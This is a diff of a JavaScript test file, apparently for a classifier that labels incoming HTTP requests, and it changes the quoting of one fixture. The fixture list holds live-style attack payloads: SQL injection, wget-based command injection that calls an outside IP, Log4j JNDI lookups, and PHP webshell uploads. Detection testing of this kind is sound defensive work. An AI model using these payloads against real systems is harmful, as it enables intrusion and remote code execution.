@@ -81,7 +81,7 @@ describe("files over HTTP", () => {
       ["id=1%20UnIoN%20SELECT%20user()", "sql"],
       ["ip=127.0.0.1%3Bwget+http://198.51.100.7/a", "command"],
       ["<NewStatusURL>$(/bin/busybox wget -g 198.51.100.7)</NewStatusURL>", "command"],
-      ["{\"name\": \"${jndi:ldap://198.51.100.7/a}\"}", "log4j"],
+      ['{"name": "${jndi:ldap://198.51.100.7/a}"}', "log4j"],
       ["a=%24%7B%24%7Blower:j%7Dndi:x%7D", "log4j"],
       ["pass=%40eval(base64_decode(%24_POST%5Bz0%5D))", "webshell"],
       ["--b\r\nContent-Disposition: form-data; name=f; filename=a.php\r\n\r\n<?php system($_GET['c']);", "webshell"],
